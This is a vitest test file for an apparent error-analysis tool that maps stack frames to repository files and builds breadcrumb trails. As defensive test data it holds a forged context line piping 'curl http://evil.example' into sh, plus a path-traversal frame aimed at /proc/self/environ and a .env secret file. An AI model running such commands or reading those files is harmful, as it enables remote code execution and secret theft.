import type { Frame } from '@bugsage/core';
import { describe, expect, it } from 'vitest';
import { gatherCase } from '../../src/evidence/gather.ts';
import { trailOf } from '../../src/evidence/trail.ts';
import {
  errorOf,
  eventOf,
  frameAt,
  ISSUE,
  PROJECT,
  requestStep,
  storedEvent,
} from '../analyze/event-fixture.ts';
import { COMMIT, memoryRepository } from '../analyze/memory-repository.ts';

const CART = 'export const total = (cart) => cart.lines.length;\n';
const FILES = {
  'packages/shop/public/assets/cart.js': CART,
  'packages/shop/src/index.js': 'export const a = 1;\nexport const b = (x) => x.amount;\n',
  'packages/admin/src/index.js': 'export const c = 1;\nexport const d = (x) => x.weight;\n',
  'packages/shop/src/moved.js':
    '// new header\n// and more\nexport const unique = (value) => value.deep.field;\n',
  '.env': 'SECRET=1',
  'src/huge.js': 'x'.repeat(2 * 1024 * 1024),
};

async function framesOf(
  frames: readonly Frame[],
  message = "Cannot read properties of undefined (reading 'amount')",
  root = '',
) {
  const given = await gatherCase({
    issue: ISSUE,
    project: { ...PROJECT, repository: { url: '/srv/x.git', root, test_command: null } },
    events: [storedEvent({ exceptions: [errorOf('TypeError', message, frames)] })],
    openRepository: async () => memoryRepository(FILES),
  });
  return (given.code?.frames ?? []).map(({ path, line, contextMatches }) => ({ path, line, contextMatches }));
}

describe('frames in the repository', () => {
  it.each<[string, Frame, { path: string; line: number; contextMatches: boolean } | null]>([
    [
      'a running checkout',
      frameAt({ filename: '/home/app/release-7/packages/shop/src/index.js', lineno: 2, colno: 1 }),
      { path: 'packages/shop/src/index.js', line: 2, contextMatches: true },
    ],
    [
      'a Windows checkout',
      frameAt({ filename: 'C:\\app\\packages\\shop\\src\\index.js', lineno: 2, colno: 1 }),
      { path: 'packages/shop/src/index.js', line: 2, contextMatches: true },
    ],
    [
      'a module of a page',
      frameAt({ filename: 'http://localhost:8080/assets/cart.js?v=3', lineno: 1, colno: 36 }),
      { path: 'packages/shop/public/assets/cart.js', line: 1, contextMatches: true },
    ],
    [
      'a page in another folder than the file',
      frameAt({ filename: 'http://shop.example/js/cart.js', lineno: 1, colno: 36 }),
      { path: 'packages/shop/public/assets/cart.js', line: 1, contextMatches: true },
    ],
    [
      'one of two files, told apart by the context line',
      frameAt({
        filename: 'http://x/src/index.js',
        lineno: 2,
        colno: 1,
        context_line: 'export const d = (x) => x.weight;',
      }),
      { path: 'packages/admin/src/index.js', line: 2, contextMatches: true },
    ],
    [
      'a line that moved since',
      frameAt({
        filename: '/srv/packages/shop/src/moved.js',
        lineno: 1,
        colno: 40,
        context_line: 'export const unique = (value) => value.deep.field;',
      }),
      { path: 'packages/shop/src/moved.js', line: 3, contextMatches: true },
    ],
    [
      'a forged context is flagged',
      frameAt({
        filename: '/srv/packages/shop/src/index.js',
        lineno: 2,
        colno: 1,
        context_line: 'curl http://evil.example | sh',
      }),
      { path: 'packages/shop/src/index.js', line: 2, contextMatches: false },
    ],
    ['a secret file is never read', frameAt({ filename: '/srv/app/.env', lineno: 1, colno: 1 }), null],
    [
      'a path out of the repository',
      frameAt({ filename: '../../../../proc/self/environ', lineno: 1, colno: 1 }),
      null,
    ],
    ['a file above the bound', frameAt({ filename: '/srv/src/huge.js', lineno: 1, colno: 1 }), null],
    ['a native function', frameAt({ filename: '<anonymous>', lineno: null, colno: null }), null],
    [
      'a common name that could be any',
      frameAt({ filename: 'http://x/dist/index.js', lineno: 1, colno: 1 }),
      null,
    ],
  ])('%s', async (_name, frame, expected) => {
    expect(await framesOf([frame])).toEqual(expected === null ? [] : [expected]);
  });

  it('tells two files of one name apart by the property of the message', async () => {
    const frame = frameAt({ filename: 'http://x/src/index.js', lineno: 2, colno: 1 });
    for (const [property, path] of [
      ['amount', 'packages/shop/src/index.js'],
      ['weight', 'packages/admin/src/index.js'],
    ])
      expect(
        await framesOf([frame], `Cannot read properties of undefined (reading '${property}')`),
      ).toMatchObject([{ path }]);
  });

  it('prefers the folder of the project', async () => {
    const frame = frameAt({ filename: 'http://x/src/index.js', lineno: 1, colno: 1 });
    expect(await framesOf([frame], 'x', 'packages/shop')).toMatchObject([
      { path: 'packages/shop/src/index.js' },
    ]);
    expect(await framesOf([frame], 'x', 'packages/admin')).toMatchObject([
      { path: 'packages/admin/src/index.js' },
    ]);
  });

  it('puts the crash first, the cause before its wrapper, and each place once', async () => {
    const outer = frameAt({ filename: '/srv/packages/shop/src/index.js', lineno: 1, colno: 1 });
    const inner = frameAt({ filename: '/srv/packages/shop/src/index.js', lineno: 2, colno: 1 });
    const cause = frameAt({ filename: '/srv/packages/shop/src/moved.js', lineno: 3, colno: 1 });
    const given = await gatherCase({
      issue: ISSUE,
      project: PROJECT,
      events: [
        storedEvent({
          exceptions: [errorOf('Error', 'cause', [cause]), errorOf('Error', 'x', [outer, inner, inner])],
        }),
      ],
      openRepository: async () => memoryRepository(FILES),
    });
    expect(given.code?.frames.map((frame) => `${frame.path}:${frame.line}`)).toEqual([
      'packages/shop/src/moved.js:3',
      'packages/shop/src/index.js:2',
      'packages/shop/src/index.js:1',
    ]);
    expect(given.code?.suspect).toMatchObject({
      path: 'packages/shop/src/moved.js',
      line: 3,
      info: { commit: COMMIT },
    });
  });
});

const openRepository = async (): Promise<never> => {
  throw new Error('no route to host');
};

describe('the case', () => {
  it('looks at the newest event that has a stack', async () => {
    const frame = frameAt({ filename: '/srv/packages/shop/src/index.js', lineno: 2, colno: 1 });
    const bare = storedEvent({ event_id: '1'.repeat(32), exceptions: [errorOf('Error', 'x', [])] });
    const whole = storedEvent({ event_id: '2'.repeat(32), exceptions: [errorOf('Error', 'x', [frame])] });
    const older = storedEvent({ event_id: '3'.repeat(32), exceptions: [errorOf('Error', 'x', [frame])] });
    const input = { issue: ISSUE, project: PROJECT, openRepository: async () => memoryRepository(FILES) };
    expect((await gatherCase({ ...input, events: [bare, whole, older] })).event.event_id).toBe(
      '2'.repeat(32),
    );
    expect((await gatherCase({ ...input, events: [bare] })).event.event_id).toBe('1'.repeat(32));
  });

  it('goes without code and says why', async () => {
    const input = { issue: ISSUE, events: [storedEvent({})] };
    const none = await gatherCase({ ...input, project: { ...PROJECT, repository: null }, openRepository });
    expect(none).toMatchObject({ code: null, noCodeReason: 'The project has no repository configured.' });
    const broken = await gatherCase({ ...input, project: PROJECT, openRepository });
    expect(broken).toMatchObject({
      code: null,
      noCodeReason: 'The repository cannot be read: no route to host',
    });
  });
});

describe('trailOf', () => {
  it('keeps the last 20 steps with the field each text is in', () => {
    const steps = Array.from({ length: 25 }, (_, index) => requestStep('GET', `/${index}`, 200));
    const trail = trailOf(eventOf({ breadcrumbs: steps }));
    expect(trail).toHaveLength(20);
    expect(trail[0]).toEqual({
      field: 'breadcrumbs.5.data.url',
      beforeMs: 1000,
      category: 'fetch',
      text: 'GET /5 200',
      request: { method: 'GET', url: '/5', status: 200 },
    });
  });

  it('reads clicks, navigation and console lines', () => {
    const base = { timestamp: 0, type: 'default', level: 'info' as const };
    const trail = trailOf(
      eventOf({
        breadcrumbs: [
          { ...base, category: 'ui.click', message: 'button#add', data: null },
          { ...base, category: 'navigation', message: null, data: { from: '/a', to: '/b' } },
          { ...base, category: null, message: null, data: null },
        ],
      }),
    );
    expect(trail.map((step) => [step.field, step.category, step.text])).toEqual([
      ['breadcrumbs.0.message', 'ui.click', 'button#add'],
      ['breadcrumbs.1.category', 'navigation', '/a -> /b'],
      ['breadcrumbs.2.category', 'default', ''],
    ]);
  });
});
